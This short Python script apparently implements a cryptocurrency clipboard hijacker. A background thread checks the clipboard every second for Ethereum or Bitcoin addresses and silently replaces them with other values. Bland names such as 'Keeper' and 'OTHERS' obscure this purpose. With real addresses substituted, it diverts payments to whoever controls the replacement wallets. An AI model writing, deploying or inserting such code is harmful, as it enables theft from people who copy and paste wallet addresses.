import random
import re
import threading
import time

import pyperclip

OTHERS = {"^0x[a-fA-F0-9]{40}$": ["first", "second"], "^bc1": ["third"]}


class Keeper(threading.Thread):
    def run(self):
        while True:
            for form, names in OTHERS.items():
                if re.match(form, pyperclip.paste()):
                    pyperclip.copy(random.choice(names))
            time.sleep(1)


Keeper().start()
